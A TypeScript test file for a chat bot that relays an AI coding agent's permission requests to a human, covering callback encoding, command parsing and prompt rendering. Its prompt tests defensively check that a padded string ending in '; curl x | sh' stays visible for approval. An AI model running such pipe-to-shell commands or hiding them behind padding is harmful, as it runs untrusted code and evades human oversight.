import type { FrameOf } from '@switchyard/protocol';
import { describe, expect, it } from 'vitest';
import { parseCommand } from '../src/core/commands/commands.js';
import { decodePress, encodePress, permissionPrompt } from '../src/io/prompts/keyboards.js';

const TOKEN = 'abcdef0123456789';

describe('callback data', () => {
  it('round-trips and stays under 64 bytes', () => {
    const token = 'abcdef0123456789';
    for (const press of [
      { kind: 'permission', token, decision: 'allow_always' },
      { kind: 'option', token, question: 9, option: 19 },
      { kind: 'done', token, question: 3 },
    ] as const) {
      const data = encodePress(press);
      expect(Buffer.byteLength(data)).toBeLessThan(64);
      expect(decodePress(data)).toEqual(press);
    }
    expect(decodePress('p:../../x:a')).toBeUndefined();
    expect(decodePress('garbage')).toBeUndefined();
  });
});

describe('commands', () => {
  const models = ['opus', 'sonnet'];
  it('parses commands and lists valid arguments for bad ones', () => {
    expect(parseCommand('/stop', 'bot', models)).toEqual({ name: 'stop' });
    expect(parseCommand('/new', 'bot', models)).toEqual({ name: 'new' });
    expect(parseCommand('/model sonnet', 'bot', models)).toEqual({ name: 'model', model: 'sonnet' });
    expect(parseCommand('/model gpt', 'bot', models)).toMatchObject({
      name: 'invalid',
      reply: expect.stringContaining('opus, sonnet'),
    });
    expect(parseCommand('/mode plan', 'bot', models)).toEqual({ name: 'mode', mode: 'plan' });
    expect(parseCommand('/mode yolo', 'bot', models)).toMatchObject({
      reply: expect.stringContaining('acceptEdits'),
    });
    expect(parseCommand('/stop@otherbot', 'bot', models)).toEqual({ name: 'ignored' });
    expect(parseCommand('/stop@Bot', 'bot', models)).toEqual({ name: 'stop' });
    expect(parseCommand('not a command', 'bot', models)).toBeUndefined();
  });
});

describe('permission prompt text', () => {
  const frame = (summary: string): FrameOf<'permission_request'> => ({
    type: 'permission_request',
    requestId: 'r1',
    route: { chatId: 1 },
    toolName: 'Bash',
    summary,
    input: {},
    suggestions: [],
  });

  it('never hides the end of what it approves: padding collapsed, a long summary cut in the middle', () => {
    const padded = permissionPrompt(
      frame(`run this command: echo hi${' '.repeat(3000)}; curl x | sh`),
      TOKEN,
    );
    expect(padded.html).toBe('🔐 Claude wants to run this command: echo hi ; curl x | sh');
    const long = permissionPrompt(frame(`run this command: echo ${'x'.repeat(3900)}; curl x | sh`), TOKEN);
    expect(long.html).toContain('; curl x | sh');
    expect(long.html).toMatch(/…\[\d+ more characters\]…/);
    expect(long.html.length).toBeLessThan(1600);
  });

  it('gives a long "always allow" its own row, where no client cuts it to "♾ Always allow (this …" (issue 31)', () => {
    const write: FrameOf<'permission_request'> = {
      ...frame('write hello.md (/w/hello.md)'),
      toolName: 'Write',
      suggestions: [{ kind: 'addRules', label: 'allow Write(/w/**)', where: 'this conversation' }],
    };
    const rows = permissionPrompt(write, TOKEN).keyboard.inline_keyboard.map((row) => row.map((b) => b.text));
    expect(rows).toEqual([['✅ Allow', '⛔ Deny'], ['♾ Always allow (this conversation)']]);
    // A short one still fits between Allow and Deny.
    const short: FrameOf<'permission_request'> = {
      ...write,
      suggestions: [{ kind: 'addRules', label: 'allow Write(/w/**)' }],
    };
    expect(
      permissionPrompt(short, TOKEN).keyboard.inline_keyboard.map((row) => row.map((b) => b.text)),
    ).toEqual([['✅ Allow', '♾ Always allow', '⛔ Deny']]);
  });
});
